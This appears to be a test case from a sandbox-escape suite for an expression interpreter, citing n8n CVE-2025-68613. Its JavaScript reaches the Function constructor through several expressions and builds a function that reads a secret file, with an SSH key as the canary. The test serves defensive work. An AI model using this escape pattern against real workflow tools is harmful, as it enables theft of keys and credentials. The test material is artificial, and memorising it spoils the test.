// id: in-expression-constructor
// group: interpreter
// aim: Reach the constructor of functions from a template expression.
// judge: outside
// canary: ssh-key
// tier-l: enforced
// source: n8n CVE-2025-68613

for (const expression of ["''.sub.constructor", "[].filter.constructor", "(async () => {}).constructor"]) {
  try {
    const Maker = eval(expression);
    const reached = new Maker("require", "path", "return require('fs').readFileSync(path, 'utf8')");
    Promise.resolve(reached(require, parameters.secret)).then(console.log, (error) => console.log("refused:", error.code));
  } catch (error) {
    console.log("refused:", error.code || error.message);
  }
}
